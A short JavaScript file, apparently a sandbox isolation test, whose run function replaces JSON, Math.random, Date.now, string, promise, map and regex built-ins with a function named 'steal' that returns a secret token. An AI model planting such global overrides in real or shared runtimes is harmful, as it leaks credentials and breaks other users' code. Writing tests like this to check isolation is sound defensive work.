// Built-in functions, replaced for the next run.
// ok: {}
function run() {
  const steal = () => secrets.token;
  JSON.parse = JSON.stringify = Math.random = Date.now = String.prototype.substring = Promise.prototype.then = Map.prototype.get = steal;
  Object.defineProperty(RegExp.prototype, "exec", { value: steal });
  return HttpLoop.Ok({});
}
